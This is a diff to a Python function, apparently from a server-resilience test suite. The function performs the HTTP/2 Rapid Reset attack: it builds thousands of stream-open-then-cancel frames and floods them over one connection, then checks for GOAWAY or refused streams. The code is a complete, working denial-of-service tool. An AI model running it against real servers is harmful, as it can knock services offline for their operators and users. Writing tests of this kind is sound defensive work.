@@ -7,6 +7,7 @@ bytes over a socket, so what goes on the wire is exactly what the test asks for.
 from __future__ import annotations
 
 import socket
+import threading
 from dataclasses import dataclass
 
 import h2.config
@@ -36,42 +37,57 @@ def _headers(authority: str, path: str) -> list[tuple[str, str]]:
 
 
 def rapid_reset(
-    address: str, path: str, *, streams: int = 20_000, batch: int = 100, timeout: float = 30.0
+    address: str, path: str, *, streams: int = 20_000, timeout: float = 30.0
 ) -> RapidResetOutcome:
     """Open ``streams`` streams on one connection, each HEADERS then RST_STREAM(CANCEL) at once.
 
-    Frames go out ``batch`` streams at a time; the server's frames are read as
-    they come. At the end a PING is sent and its ACK awaited, so the server has
-    read every frame before this returns (unless it sent GOAWAY first).
+    Every frame is built before connecting and sent as fast as the socket
+    takes it, as an attacker would; the server's frames are read meanwhile. At
+    the end a PING is sent and its ACK awaited, so the server has read every
+    frame before this returns (unless it sent GOAWAY first).
     """
     host, _, port = address.rpartition(":")
     config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
     connection = h2.connection.H2Connection(config=config)
     connection.initiate_connection()
-    outcome = RapidResetOutcome(streams_sent=0, goaway=False, refused_streams=0)
+    headers = _headers(address, path)
+    for _ in range(streams):
+        stream_id = connection.get_next_available_stream_id()
+        connection.send_headers(stream_id, headers)
+        connection.reset_stream(stream_id)
+    flood = connection.data_to_send()
+    outcome = RapidResetOutcome(streams_sent=streams, goaway=False, refused_streams=0)
     with socket.create_connection((host, int(port)), timeout=timeout) as sock:
-        sock.sendall(connection.data_to_send())
-        headers = _headers(address, path)
-        pong = False
+        sent = threading.Event()
 
-        def read(block: bool) -> None:
-            nonlocal pong
-            sock.setblocking(block)
+        def send() -> None:
+            try:
+                sock.sendall(flood)
+            except OSError:
+                outcome.goaway = True
+            sent.set()
+
+        writer = threading.Thread(target=send, daemon=True)
+        writer.start()
+        replies = b""  # what h2 answers (SETTINGS ACK...), sent once the flood is out
+        pinged = pong = False
+        while not pong and not outcome.goaway:
+            if sent.is_set() and not pinged:
+                connection.ping(b"rstflood")
+                sock.sendall(replies + connection.data_to_send())
+                pinged = True
             try:
                 data = sock.recv(65536)
-            except (BlockingIOError, InterruptedError):
-                return
-            finally:
-                sock.setblocking(True)
-                sock.settimeout(timeout)
+            except TimeoutError:
+                break
             if not data:
                 outcome.goaway = True
-                return
+                break
             try:
                 events = connection.receive_data(data)
             except h2.exceptions.ProtocolError:
                 outcome.goaway = True
-                return
+                break
             for event in events:
                 if isinstance(event, h2.events.ConnectionTerminated):
                     outcome.goaway = True
@@ -79,27 +95,9 @@ def rapid_reset(
                     outcome.refused_streams += 1
                 elif isinstance(event, h2.events.PingAckReceived):
                     pong = True
-            pending = connection.data_to_send()
-            if pending:
-                sock.sendall(pending)
-
-        for start in range(0, streams, batch):
-            if outcome.goaway:
-                break
-            for _ in range(min(batch, streams - start)):
-                stream_id = connection.get_next_available_stream_id()
-                connection.send_headers(stream_id, headers)
-                connection.reset_stream(stream_id)
-                outcome.streams_sent += 1
-            try:
+            if pinged:
                 sock.sendall(connection.data_to_send())
-            except OSError:
-                outcome.goaway = True
-                break
-            read(block=False)
-        if not outcome.goaway:
-            connection.ping(b"rstflood")
-            sock.sendall(connection.data_to_send())
-            while not pong and not outcome.goaway:
-                read(block=True)
+            else:
+                replies += connection.data_to_send()
+        writer.join(timeout)
     return outcome
